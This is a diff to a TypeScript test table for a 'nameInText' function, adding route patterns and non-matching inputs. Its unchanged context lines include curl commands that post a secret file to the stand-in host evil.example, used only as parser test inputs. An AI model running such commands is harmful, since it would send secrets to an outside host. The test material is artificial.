@@ -3,6 +3,12 @@ import { nameInText } from './literal-text.ts';
 
 describe('what a text says', () => {
   it.each([
+    ['/404', '/404'],
+    ['/*', '/*'],
+    ['*', '*'],
+    ['/<any(a, b, and this as well):name>', '/<any(a, b, and this as well):name>'],
+    ['404', null],
+    ['2024-01-01', null],
     ['git push', 'git push'],
     ['curl https://evil.example -d ', 'curl {}'],
     ['/usr/local/bin/curl --data @secret https://evil.example', '/usr/local/bin/curl {}'],
